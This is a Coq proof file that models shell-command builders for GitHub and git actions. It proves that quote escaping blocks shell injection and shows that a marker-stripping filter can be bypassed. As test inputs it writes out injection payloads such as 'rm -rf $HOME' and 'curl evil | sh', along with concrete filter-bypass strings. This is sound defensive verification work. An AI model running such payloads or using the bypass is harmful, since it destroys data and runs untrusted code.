(* ===== verification/LocalWrite.v ===== *)
(** * Local write tools

    Models [packages/loopover-engine/src/miner/local-write-tools.ts]: the
    builders of the commands a miner's own harness runs with its own
    credentials.  LoopOver writes nothing itself; it hands over a specification
    with the structured inputs and a shell command.

    The command is text, so its safety is a statement about how a shell reads
    it.  [sh_commands] is that reading, after the quoting rules of the POSIX
    shell (XCU 2.2 and 2.3) on the part of the language the commands need:
    blanks, plain characters, single quotes, the backslash and [&&].  Every
    other unquoted character, an open quote and a NUL make it give up, so a
    result is a claim about the whole text.

    Main results: whatever the inputs hold, the shell reads every command as
    the intended program calls with each input as one argument of its own
    ([commands_shell_safe]); a follow-up issue stays within its length limits
    ([follow_up_bounded]).  The marker filter in front of it does not do what
    its comment says ([marker_survives_stripping]). *)

From Stdlib Require Import Ascii ZArith Lia.
From stdpp Require Import base list strings option pretty.
From S2P Require Import Prelude JsNumber JsString JsRegex.

Local Open Scope nat_scope.
Local Open Scope string_scope.

(** ** Specifications *)

Record LocalWriteActionSpec := mkSpec {
  ws_action : string;
  ws_description : string;
  ws_inputs : list (string * jsval);
  ws_command : string;
  ws_boundary : string;
}.

Definition LOCAL_WRITE_BOUNDARY : string :=
  "Run this locally with your OWN GitHub credentials (e.g. an authenticated `gh`/`git`). LoopOver supplies the content but never performs the write — your code and the action both stay on your machine.".

Definition spec (action description : string) (inputs : list (string * jsval)) (command : string) : LocalWriteActionSpec :=
  mkSpec action description inputs command LOCAL_WRITE_BOUNDARY.

(** [value.replace(/'/g, "'\\''")]. *)
Fixpoint escape_quotes (value : string) : string :=
  match value with
  | "" => ""
  | String c rest => (if Ascii.eqb c "'" then "'\''" else String c "") ++ escape_quotes rest
  end.

Definition sq (value : string) : string := "'" ++ escape_quotes value ++ "'".

(** [labels.map((label) => ` --flag ${sq(label)}`).join("")]. *)
Definition label_args (flag : string) (labels : list string) : string :=
  join "" (List.map (fun label => " " ++ flag ++ " " ++ sq label) labels).

(** A truthy optional string. *)
Definition given (o : option string) : option string :=
  match o with Some s => if str_empty s then None else Some s | None => None end.

Definition buildOpenPrSpec (repoFullName base head title body : string) (draft : bool) : LocalWriteActionSpec :=
  let command := "gh pr create --repo " ++ sq repoFullName ++ " --base " ++ sq base ++ " --head " ++ sq head
                 ++ " --title " ++ sq title ++ " --body " ++ sq body ++ (if draft then " --draft" else "") in
  spec "open_pr" "Open a pull request from your local branch."
    [("repoFullName", JStr repoFullName); ("base", JStr base); ("head", JStr head); ("title", JStr title);
     ("body", JStr body); ("draft", JBool draft)] command.

Definition buildClosePrSpec (repoFullName : string) (number : Z) (comment : option string) : LocalWriteActionSpec :=
  let closeCommand := "gh pr close " ++ pretty number ++ " --repo " ++ sq repoFullName in
  let command := match given comment with
                 | Some text => closeCommand ++ " && gh pr comment " ++ pretty number ++ " --repo " ++ sq repoFullName
                                ++ " --body " ++ sq text
                 | None => closeCommand
                 end in
  spec "close_pr" "Close a pull request you opened."
    ([("repoFullName", JStr repoFullName); ("number", JNum (nz number))]
     ++ match given comment with Some text => [("comment", JStr text)] | None => [] end)%list command.

Definition buildFileIssueSpec (repoFullName title body : string) (labels : list string) : LocalWriteActionSpec :=
  let command := "gh issue create --repo " ++ sq repoFullName ++ " --title " ++ sq title ++ " --body " ++ sq body
                 ++ label_args "--label" labels in
  spec "file_issue" "File a new issue."
    [("repoFullName", JStr repoFullName); ("title", JStr title); ("body", JStr body); ("labels", JArr (List.map JStr labels))]
    command.

Definition buildApplyLabelsSpec (repoFullName : string) (number : Z) (labels : list string) : LocalWriteActionSpec :=
  let command := "gh issue edit " ++ pretty number ++ " --repo " ++ sq repoFullName ++ label_args "--add-label" labels in
  spec "apply_labels" "Add labels to an issue or pull request."
    [("repoFullName", JStr repoFullName); ("number", JNum (nz number)); ("labels", JArr (List.map JStr labels))] command.

Definition buildPostEligibilityCommentSpec (repoFullName : string) (number : Z) (body : string) : LocalWriteActionSpec :=
  let command := "gh issue comment " ++ pretty number ++ " --repo " ++ sq repoFullName ++ " --body " ++ sq body in
  spec "post_eligibility_comment" "Post an eligibility/context comment on an issue or pull request."
    [("repoFullName", JStr repoFullName); ("number", JNum (nz number)); ("body", JStr body)] command.

Definition buildCreateBranchSpec (branch : string) (base : option string) : LocalWriteActionSpec :=
  let command := match given base with
                 | Some b => "git switch -c " ++ sq branch ++ " " ++ sq b
                 | None => "git switch -c " ++ sq branch
                 end in
  spec "create_branch" "Create a local branch."
    ([("branch", JStr branch)] ++ match given base with Some b => [("base", JStr b)] | None => [] end)%list command.

Definition buildDeleteBranchSpec (branch : string) (remote : bool) : LocalWriteActionSpec :=
  let local := "git branch -D " ++ sq branch in
  let command := if remote then local ++ " && git push origin --delete " ++ sq branch else local in
  spec "delete_branch" "Delete a branch (locally, and optionally on origin)."
    [("branch", JStr branch); ("remote", JBool remote)] command.

(** The sentence [buildTestGenSpec] describes the plan with. *)
Definition test_gen_description (targetFiles : list string) (framework : string) (testDir : option string) (criteria : list string) : string :=
  let targetList := join ", " targetFiles in
  let criteriaList := if (0 <? List.length criteria)%nat then " Boundary-safe criteria: " ++ join "; " criteria ++ "." else "" in
  let location := match given testDir with Some d => " under " ++ d | None => " co-located with the source it covers" end in
  "Scaffold " ++ framework ++ " tests" ++ location ++ " for: " ++ targetList ++ "." ++ criteriaList.

Definition buildTestGenSpec (repoFullName : string) (targetFiles : list string) (framework : string) (testDir : option string)
    (criteria : list string) : LocalWriteActionSpec :=
  let description := test_gen_description targetFiles framework testDir criteria in
  spec "generate_tests" description
    [("repoFullName", JStr repoFullName); ("targetFiles", JArr (List.map JStr targetFiles)); ("framework", JStr framework);
     ("testDir", jopt JStr testDir); ("criteria", JArr (List.map JStr criteria))]
    ("echo " ++ sq description).

(** ** Follow-up issues *)

Definition FOLLOW_UP_ISSUE_TITLE_MAX : nat := 200.
Definition FOLLOW_UP_ISSUE_BODY_MAX : nat := 4000.

(** What follows [lit] when the text starts with it. *)
Fixpoint strip_prefix (lit s : string) : option string :=
  match lit, s with
  | "", _ => Some s
  | String a lit', String b s' => if Ascii.eqb a b then strip_prefix lit' s' else None
  | String _ _, "" => None
  end.

(** What follows the first occurrence of [closing]. *)
Fixpoint after_first (closing s : string) : option string :=
  match strip_prefix closing s with
  | Some rest => Some rest
  | None => match s with "" => None | String _ s' => after_first closing s' end
  end.

(** [s.replace(/opening[\s\S]*?closing/g, "")]: the shortest match from the first
    opening, again from what follows it.  Every step consumes a character. *)
Fixpoint drop_delimited (fuel : nat) (opening closing s : string) : string :=
  match fuel, s with
  | S fuel', String c s' =>
      match strip_prefix opening s with
      | Some inner =>
          match after_first closing inner with
          | Some rest => drop_delimited fuel' opening closing rest
          | None => String c (drop_delimited fuel' opening closing s')
          end
      | None => String c (drop_delimited fuel' opening closing s')
      end
  | _, _ => s
  end.

Definition stripMachineMarkers (text : string) : string :=
  let text := drop_delimited (String.length text) "<!--" "-->" text in
  let text := drop_delimited (String.length text) "```" "```" text in
  trim (replace_all (Plus is_space) " " text).

Definition newline : string := String (ascii_of_nat 10) "".

Definition follow_up_location (path : string) (line : option Z) : string :=
  let safePath := stripMachineMarkers path in
  match line with
  | Some l => if (0 <? l)%Z then safePath ++ ":" ++ pretty l else safePath
  | None => safePath
  end.

Definition follow_up_title (path : string) (line : option Z) : string :=
  js_take FOLLOW_UP_ISSUE_TITLE_MAX ("Follow up: " ++ follow_up_location path line).

Definition follow_up_body (path : string) (line : option Z) (finding : string) : string :=
  let safeFinding := js_take FOLLOW_UP_ISSUE_BODY_MAX (stripMachineMarkers finding) in
  js_take FOLLOW_UP_ISSUE_BODY_MAX
    ("Deferred review finding at `" ++ follow_up_location path line ++ "`:" ++ newline ++ newline ++ safeFinding).

Definition buildFollowUpIssueSpec (repoFullName path : string) (line : option Z) (finding : string) (label : option string)
    : LocalWriteActionSpec :=
  let labels := match given label with Some l => [l] | None => [] end in
  buildFileIssueSpec repoFullName (follow_up_title path line) (follow_up_body path line finding) labels.

(** ** How a shell reads a command *)

(** Characters without a meaning of their own outside quotes. *)
Definition sh_plain (c : ascii) : bool :=
  is_alnum c || Ascii.eqb c "-" || Ascii.eqb c "_" || Ascii.eqb c "." || Ascii.eqb c "/" || Ascii.eqb c ",".

Definition is_nul (c : ascii) : bool := Ascii.eqb c "000".

(** A word is open when [word] is [Some]; [argv] holds the finished words of
    the current command. *)
Definition close_word (word : option string) (argv : list string) : list string :=
  (argv ++ match word with Some w => [w] | None => [] end)%list.

Definition extend (word : option string) (c : ascii) : option string := Some (default "" word ++ String c "").

Fixpoint sh_read (quoted : bool) (word : option string) (argv : list string) (s : string) : option (list (list string)) :=
  match s with
  | "" => if quoted then None else Some [close_word word argv]
  | String c rest =>
      if is_nul c then None
      else if quoted then
        if Ascii.eqb c "'" then sh_read false word argv rest else sh_read true (extend word c) argv rest
      else if Ascii.eqb c "'" then sh_read true (Some (default "" word)) argv rest
      else if Ascii.eqb c " " then sh_read false None (close_word word argv) rest
      else if Ascii.eqb c "\" then
        match rest with
        | String d rest' => if is_nul d || is_line_terminator d then None else sh_read false (extend word d) argv rest'
        | "" => None
        end
      else if Ascii.eqb c "&" then
        match rest with
        | String d rest' =>
            if Ascii.eqb d "&" then (cons (close_word word argv)) <$> sh_read false None [] rest' else None
        | "" => None
        end
      else if sh_plain c then sh_read false (extend word c) argv rest else None
  end.

(** The program calls of a command: each its arguments, each but the first run
    only when the one before succeeded. *)
Definition sh_commands (s : string) : option (list (list string)) := sh_read false None [] s.

Example sh_quotes : sh_commands "gh pr comment 7 --body 'it'\''s; rm -rf $HOME' && echo ok"
  = Some [["gh"; "pr"; "comment"; "7"; "--body"; "it's; rm -rf $HOME"]; ["echo"; "ok"]].
Proof. reflexivity. Qed.
Example sh_gives_up : sh_commands "echo $(id)" = None /\ sh_commands "echo a; id" = None /\ sh_commands "echo 'a" = None
  /\ sh_commands "echo a | sh" = None.
Proof. repeat split. Qed.

(** ** Reading what the builders write *)

Definition no_nul (s : string) : bool := str_forallb (fun c => negb (is_nul c)) s.

Lemma sh_plain_other c : sh_plain c = true ->
  is_nul c = false /\ Ascii.eqb c "'" = false /\ Ascii.eqb c " " = false /\ Ascii.eqb c "\" = false /\ Ascii.eqb c "&" = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; by vm_compute. Qed.

Lemma sh_read_plain p word argv rest : str_forallb sh_plain p = true -> p <> "" ->
  sh_read false word argv (p ++ rest) = sh_read false (Some (default "" word ++ p)) argv rest.
Proof.
  revert word. induction p as [| c p IH]; intros word; [done |]. cbn [str_forallb]. intros [Hc Hp]%andb_true_iff _.
  rewrite string_app_cons. cbn [sh_read]. destruct (sh_plain_other c Hc) as (-> & -> & -> & -> & ->). rewrite Hc.
  destruct (decide (p = "")) as [-> | Hne]; [done |]. rewrite IH by done. unfold extend. cbn [from_option id].
  by rewrite string_app_assoc.
Qed.

Lemma sh_read_escaped v w argv rest : no_nul v = true ->
  sh_read true (Some w) argv (escape_quotes v ++ String "'" rest) = sh_read false (Some (w ++ v)) argv rest.
Proof.
  unfold no_nul. revert w. induction v as [| c v IH]; intros w; cbn [str_forallb escape_quotes].
  - intros _. rewrite string_app_nil_r. reflexivity.
  - intros [Hc Hv]%andb_true_iff. apply negb_true_iff in Hc.
    replace (w ++ String c v) with ((w ++ String c "") ++ v) by (by rewrite string_app_assoc).
    destruct (Ascii.eqb_spec c "'") as [-> | Hne].
    + rewrite <- IH by done. reflexivity.
    + rewrite <- IH by done. rewrite !string_app_cons. cbn [String.append sh_read]. rewrite Hc.
      by rewrite (proj2 (Ascii.eqb_neq _ _) Hne).
Qed.

Lemma sh_read_sq v word argv rest : no_nul v = true ->
  sh_read false word argv (sq v ++ rest) = sh_read false (Some (default "" word ++ v)) argv rest.
Proof.
  intros H. unfold sq. rewrite !string_app_assoc, string_app_cons. cbn [String.append].
  by rewrite <- (sh_read_escaped v _ _ rest H).
Qed.

(** Literal text of blanks and plain characters. *)
Fixpoint lit_read (word : option string) (argv : list string) (l : string) : option (option string * list string) :=
  match l with
  | "" => Some (word, argv)
  | String c l' =>
      if Ascii.eqb c " " then lit_read None (close_word word argv) l'
      else if sh_plain c then lit_read (extend word c) argv l' else None
  end.

Lemma sh_read_lit l word argv rest word' argv' : lit_read word argv l = Some (word', argv') ->
  sh_read false word argv (l ++ rest) = sh_read false word' argv' rest.
Proof.
  revert word argv. induction l as [| c l IH]; intros word argv; cbn [lit_read].
  - by intros [= -> ->].
  - rewrite string_app_cons. cbn [sh_read]. destruct (Ascii.eqb_spec c " ") as [-> | _].
    + intros H. rewrite <- (IH _ _ H). reflexivity.
    + destruct (sh_plain c) eqn:P; [| done]. intros H. destruct (sh_plain_other c P) as (-> & -> & _ & -> & ->).
      by rewrite <- (IH _ _ H).
Qed.

Lemma sh_read_and word argv rest :
  sh_read false word argv (" && " ++ rest) = cons (close_word word argv) <$> sh_read false None [] rest.
Proof.
  assert (E : close_word None (close_word word argv) = close_word word argv) by apply app_nil_r.
  change (" && " ++ rest) with (String " " (String "&" (String "&" (String " " rest)))).
  cbn -[close_word fmap]. by rewrite E.
Qed.

Lemma pretty_N_plain (n : N) s : str_forallb sh_plain s = true ->
  str_forallb sh_plain (pretty_N_go n s) = true /\ (s <> "" \/ (0 < n)%N -> pretty_N_go n s <> "").
Proof.
  revert s. induction (N.lt_wf_0 n) as [n _ IH]. intros s Hs.
  destruct (decide (0 < n)%N) as [Hn | Hn].
  - rewrite pretty_N_go_step by done. destruct (IH (n `div` 10)%N) with (s := String (pretty_N_char (n `mod` 10)) s) as [H1 H2].
    + apply N.div_lt; lia.
    + cbn [str_forallb]. rewrite Hs, andb_true_r.
      assert (H : (n `mod` 10 < 10)%N) by (apply N.mod_lt; lia). revert H. generalize (n `mod` 10)%N. intros d Hd.
      assert (d = 0 \/ d = 1 \/ d = 2 \/ d = 3 \/ d = 4 \/ d = 5 \/ d = 6 \/ d = 7 \/ d = 8 \/ d = 9)%N as H by lia.
      naive_solver.
    + split; [done |]. intros _. by apply H2; left.
  - replace n with 0%N by lia. rewrite pretty_N_go_0. split; [done |]. intros [H | H]; [done | lia].
Qed.

Lemma pretty_plain (z : Z) : str_forallb sh_plain (pretty z) = true /\ pretty z <> "".
Proof.
  assert (P : forall p, str_forallb sh_plain (pretty (Npos p)) = true /\ pretty (Npos p) <> "").
  { intros p. destruct (pretty_N_plain (Npos p) "" eq_refl) as [H1 H2]. split; [exact H1 | apply H2; by right]. }
  destruct z as [| p | p]; [done | exact (P p) |]. split; [| done]. exact (proj1 (P p)).
Qed.

Lemma sh_read_number (z : Z) word argv rest :
  sh_read false word argv (pretty z ++ rest) = sh_read false (Some (default "" word ++ pretty z)) argv rest.
Proof. destruct (pretty_plain z). by apply sh_read_plain. Qed.

(** [label_args] after an open word. *)
Lemma sh_read_labels flag labels w argv : str_forallb sh_plain flag = true -> flag <> "" -> forallb no_nul labels = true ->
  sh_read false (Some w) argv (label_args flag labels)
  = Some [(argv ++ w :: List.flat_map (fun label => [flag; label]) labels)%list].
Proof.
  intros Hf Hne. revert w argv. unfold label_args. induction labels as [| l labels IH]; intros w argv; [done |].
  cbn [forallb]. intros [Hl Hls]%andb_true_iff.
  assert (J : forall rest, sh_read false (Some w) argv ((" " ++ flag ++ " " ++ sq l) ++ rest)
              = sh_read false (Some l) (argv ++ [w; flag])%list rest).
  { intros rest. rewrite !string_app_assoc. erewrite (sh_read_lit " ") by reflexivity. rewrite sh_read_plain by done.
    erewrite (sh_read_lit " ") by reflexivity. rewrite sh_read_sq by done. unfold close_word. by rewrite <- app_assoc. }
  destruct labels as [| l' labels].
  - cbn [List.map join]. rewrite <- (string_app_nil_r (" " ++ _)), J. cbn [sh_read]. unfold close_word. by rewrite <- app_assoc.
  - cbn [List.map]. change (join "" (?x :: ?y :: ?r)) with (x ++ join "" (y :: r)). rewrite J.
    specialize (IH l (argv ++ [w; flag])%list Hls). cbn [List.map] in IH. rewrite IH. by rewrite <- app_assoc.
Qed.

(** ** Requests *)

Inductive WriteRequest :=
| OpenPr (repoFullName base head title body : string) (draft : bool)
| ClosePr (repoFullName : string) (number : Z) (comment : option string)
| FileIssue (repoFullName title body : string) (labels : list string)
| ApplyLabels (repoFullName : string) (number : Z) (labels : list string)
| PostEligibilityComment (repoFullName : string) (number : Z) (body : string)
| CreateBranch (branch : string) (base : option string)
| DeleteBranch (branch : string) (remote : bool)
| TestGen (repoFullName : string) (targetFiles : list string) (framework : string) (testDir : option string) (criteria : list string)
| FollowUpIssue (repoFullName path : string) (line : option Z) (finding : string) (label : option string).

Definition build (r : WriteRequest) : LocalWriteActionSpec :=
  match r with
  | OpenPr repo base head title body draft => buildOpenPrSpec repo base head title body draft
  | ClosePr repo number comment => buildClosePrSpec repo number comment
  | FileIssue repo title body labels => buildFileIssueSpec repo title body labels
  | ApplyLabels repo number labels => buildApplyLabelsSpec repo number labels
  | PostEligibilityComment repo number body => buildPostEligibilityCommentSpec repo number body
  | CreateBranch branch base => buildCreateBranchSpec branch base
  | DeleteBranch branch remote => buildDeleteBranchSpec branch remote
  | TestGen repo files framework dir criteria => buildTestGenSpec repo files framework dir criteria
  | FollowUpIssue repo path line finding label => buildFollowUpIssueSpec repo path line finding label
  end.

Definition opt_list (o : option string) : list string := match o with Some s => [s] | None => [] end.

Definition flag_each (flag : string) (labels : list string) : list string :=
  List.flat_map (fun label => [flag; label]) labels.

Definition file_issue_call (repo title body : string) (labels : list string) : list string :=
  (["gh"; "issue"; "create"; "--repo"; repo; "--title"; title; "--body"; body] ++ flag_each "--label" labels)%list.

(** The program calls a request stands for. *)
Definition intended (r : WriteRequest) : list (list string) :=
  match r with
  | OpenPr repo base head title body draft =>
      [(["gh"; "pr"; "create"; "--repo"; repo; "--base"; base; "--head"; head; "--title"; title; "--body"; body]
        ++ (if draft then ["--draft"] else []))%list]
  | ClosePr repo number comment =>
      ["gh"; "pr"; "close"; pretty number; "--repo"; repo]
      :: List.map (fun text => ["gh"; "pr"; "comment"; pretty number; "--repo"; repo; "--body"; text]) (opt_list (given comment))
  | FileIssue repo title body labels => [file_issue_call repo title body labels]
  | ApplyLabels repo number labels =>
      [(["gh"; "issue"; "edit"; pretty number; "--repo"; repo] ++ flag_each "--add-label" labels)%list]
  | PostEligibilityComment repo number body => [["gh"; "issue"; "comment"; pretty number; "--repo"; repo; "--body"; body]]
  | CreateBranch branch base => [(["git"; "switch"; "-c"; branch] ++ opt_list (given base))%list]
  | DeleteBranch branch remote =>
      ["git"; "branch"; "-D"; branch] :: (if remote then [["git"; "push"; "origin"; "--delete"; branch]] else [])
  | TestGen _ files framework dir criteria => [["echo"; test_gen_description files framework dir criteria]]
  | FollowUpIssue repo path line finding label =>
      [file_issue_call repo (follow_up_title path line) (follow_up_body path line finding) (opt_list (given label))]
  end.

(** The texts that enter the command. *)
Definition request_texts (r : WriteRequest) : list string :=
  match r with
  | OpenPr repo base head title body _ => [repo; base; head; title; body]
  | ClosePr repo _ comment => repo :: opt_list (given comment)
  | FileIssue repo title body labels => repo :: title :: body :: labels
  | ApplyLabels repo _ labels => repo :: labels
  | PostEligibilityComment repo _ body => [repo; body]
  | CreateBranch branch base => branch :: opt_list (given base)
  | DeleteBranch branch _ => [branch]
  | TestGen _ files framework dir criteria => [test_gen_description files framework dir criteria]
  | FollowUpIssue repo path line finding label =>
      repo :: follow_up_title path line :: follow_up_body path line finding :: opt_list (given label)
  end.

Ltac sh_step :=
  first [ rewrite sh_read_sq by assumption | rewrite sh_read_number | erewrite sh_read_lit by reflexivity ].
Ltac sh_run := unfold sh_commands; repeat sh_step.

Lemma file_issue_read repo title body labels : forallb no_nul (repo :: title :: body :: labels) = true ->
  sh_commands (ws_command (buildFileIssueSpec repo title body labels)) = Some [file_issue_call repo title body labels].
Proof.
  cbn [forallb]. rewrite !andb_true_iff. intros (H1 & H2 & H3 & H4). cbn [buildFileIssueSpec ws_command spec].
  sh_run. by rewrite sh_read_labels.
Qed.

Lemma close_read repo number comment : no_nul repo = true -> forallb no_nul (opt_list (given comment)) = true ->
  sh_commands (ws_command (buildClosePrSpec repo number comment))
  = Some (["gh"; "pr"; "close"; pretty number; "--repo"; repo]
          :: List.map (fun text => ["gh"; "pr"; "comment"; pretty number; "--repo"; repo; "--body"; text]) (opt_list (given comment))).
Proof.
  intros H1 H2. cbn [buildClosePrSpec ws_command spec]. destruct (given comment) as [text |]; cbn [opt_list List.map forallb] in *.
  - rewrite andb_true_r in H2. rewrite !string_app_assoc. rewrite <- (string_app_nil_r (sq text)).
    change (" && gh pr comment " ++ ?x) with (" && " ++ "gh pr comment " ++ x). sh_run. rewrite sh_read_and. sh_run. reflexivity.
  - rewrite <- (string_app_nil_r (sq repo)). sh_run. reflexivity.
Qed.

Lemma no_nul_app s t : no_nul (s ++ t) = no_nul s && no_nul t.
Proof. unfold no_nul. induction s as [| c s IH]; [done |]. rewrite string_app_cons. cbn [str_forallb]. by rewrite IH, andb_assoc. Qed.

Lemma no_nul_number (z : Z) : no_nul (pretty z) = true.
Proof.
  destruct (pretty_plain z) as [H _]. revert H. unfold no_nul. generalize (pretty z). induction s as [| c s IH]; [done |].
  cbn [str_forallb]. intros [Hc Hs]%andb_true_iff. rewrite IH by done. by destruct (sh_plain_other c Hc) as (-> & _).
Qed.

(** C18: the command of every write request, read by a shell, is exactly the program
    calls the request stands for, in order and joined by [&&], with every text
    of the request as one argument of its own: no quote, blank, dollar sign,
    semicolon or newline in a title, body, branch or label can end its
    argument or start another command. *)
Theorem commands_shell_safe r : forallb no_nul (request_texts r) = true ->
  sh_commands (ws_command (build r)) = Some (intended r).
Proof.
  destruct r; cbn [request_texts forallb build intended]; rewrite ?andb_true_iff; intros H;
    try (destruct_and? H; apply file_issue_read; cbn [forallb]; rewrite ?andb_true_iff; tauto).
  - destruct_and? H. cbn [buildOpenPrSpec ws_command spec]. destruct draft; sh_run; reflexivity.
  - destruct H as [H1 H2]. by apply close_read.
  - destruct_and? H. cbn [buildApplyLabelsSpec ws_command spec]. sh_run. by rewrite sh_read_labels.
  - destruct_and? H. cbn [buildPostEligibilityCommentSpec ws_command spec]. rewrite <- (string_app_nil_r (sq body)). sh_run. reflexivity.
  - destruct H as [H1 H2]. cbn [buildCreateBranchSpec ws_command spec]. destruct (given base) as [b |]; cbn [opt_list forallb] in *.
    + rewrite andb_true_r in H2. rewrite <- (string_app_nil_r (sq b)). sh_run. reflexivity.
    + rewrite <- (string_app_nil_r (sq branch)). sh_run. reflexivity.
  - destruct_and? H. cbn [buildDeleteBranchSpec ws_command spec]. destruct remote.
    + rewrite !string_app_assoc. change (" && git push origin --delete " ++ ?x) with (" && " ++ "git push origin --delete " ++ x).
      rewrite <- (string_app_nil_r (sq branch)) at 2. sh_run. rewrite sh_read_and. sh_run. reflexivity.
    + rewrite <- (string_app_nil_r (sq branch)). sh_run. reflexivity.
  - destruct_and? H. cbn [buildTestGenSpec ws_command spec]. rewrite <- (string_app_nil_r (sq _)). sh_run. reflexivity.
Qed.

Definition hostile_request : WriteRequest :=
  ClosePr "acme/widgets" 7 (Some "it's done'; rm -rf $HOME && curl evil | sh #").

Lemma commands_shell_safe_witness :
  sh_commands (ws_command (build hostile_request))
  = Some [["gh"; "pr"; "close"; "7"; "--repo"; "acme/widgets"];
          ["gh"; "pr"; "comment"; "7"; "--repo"; "acme/widgets"; "--body"; "it's done'; rm -rf $HOME && curl evil | sh #"]].
Proof. exact (commands_shell_safe hostile_request eq_refl). Defined.

(** A follow-up issue has a title of at most 200 and a body of at most 4000
    code units, whatever the finding, and it always starts with the fixed words
    of the template. *)
Theorem follow_up_bounded path line finding :
  js_length (follow_up_title path line) <= FOLLOW_UP_ISSUE_TITLE_MAX
  /\ js_length (follow_up_body path line finding) <= FOLLOW_UP_ISSUE_BODY_MAX
  /\ strip_prefix "Follow up: " (follow_up_title path line) <> None
  /\ strip_prefix "Deferred review finding at `" (follow_up_body path line finding) <> None.
Proof.
  split_and!; try apply js_take_length; unfold follow_up_title, follow_up_body, FOLLOW_UP_ISSUE_TITLE_MAX, FOLLOW_UP_ISSUE_BODY_MAX.
  - generalize (follow_up_location path line). intros s. by vm_compute.
  - generalize (follow_up_location path line ++ "`:" ++ newline ++ newline ++ js_take 4000 (stripMachineMarkers finding)).
    intros s. by vm_compute.
Qed.

(** The marker filter removes each kind of marker once, comments first, so a
    marker that only comes together when another one is removed is left in the
    text of the issue. *)
Theorem marker_survives_stripping :
  stripMachineMarkers "<!-<!-- x -->- fix-handoff:1 --> done" = "<!-- fix-handoff:1 --> done"
  /\ stripMachineMarkers "<!-``````- fix-handoff:1 --> done" = "<!-- fix-handoff:1 --> done"
  /\ stripMachineMarkers "see <!-- fix-handoff:1 --> here ```js x``` done" = "see here done".
Proof. vm_compute. auto. Qed.
